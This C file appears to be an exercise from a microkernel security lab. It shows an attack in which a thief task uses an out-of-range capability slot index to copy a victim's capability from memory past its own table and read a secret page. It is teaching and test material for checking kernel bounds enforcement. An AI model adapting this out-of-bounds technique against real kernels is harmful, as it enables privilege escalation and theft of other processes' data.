/*
 * Forged index (exercise 2.1). A CNode is a table of TASK_SLOTS slots. The thief may use its own, and asks to copy
 * from slot 75 of it. There is no slot 75; but there is memory after the table, and in it lies the next CNode: the
 * victim's, with a capability to the page in which it keeps its diary.
 */
#include "gen/lib/microk/methods.h"
#include "labs/2-caps/attacks/play.h"

static u64 diary_slot; /* not a secret: it follows from the way tasks are made */

static void set_up(struct task *victim, struct task *thief)
{
	u64 frame;

	(void)thief;
	task_page(victim, 0, RIGHT_READ | RIGHT_WRITE, &frame);
	diary_slot = task_give(victim, "diary", frame, RIGHT_READ | RIGHT_WRITE, 0);
	memcpy(thief->page->arguments, &diary_slot, sizeof(diary_slot));
}

static void write_diary(void)
{
	*(volatile u64 *)PAGE_OF_TASK = secret();
	say("a new page in the diary");
	moment(MOMENT_DRAW, "with the diary");
	for (;;)
		thread_suspend(SLOT_THREAD);
}

/* Where the victim's slot is, counted in slots from the thief's own table: after it comes the header
 * of the victim's (one slot's size), or first the rest of a page. */
static void read_diary(void)
{
	u64 slot, in_a_row = TASK_SLOTS + 1, by_pages = 2 * PAGE_SIZE / 64;

	memcpy(&slot, startup->arguments, sizeof(slot));
	const u64 guesses[] = {in_a_row + slot, by_pages + slot};
	for (u32 i = 0; i < ARRAY_LEN(guesses); i++) {
		enum microk_status s = copy_own(TASK_FREE + i, guesses[i], RIGHT_READ);
		void *page;

		say("copy from slot %lu of my %u: %s", guesses[i], TASK_SLOTS, status_name(s));
		if (s == OK && window_map(TASK_FREE + i, 1, RIGHT_READ, 0, &page) == OK)
			stole(*(volatile u64 *)page);
	}
	got_nothing();
}

const struct play play_forged_index = {"forged_index", set_up, write_diary, read_diary, NULL};
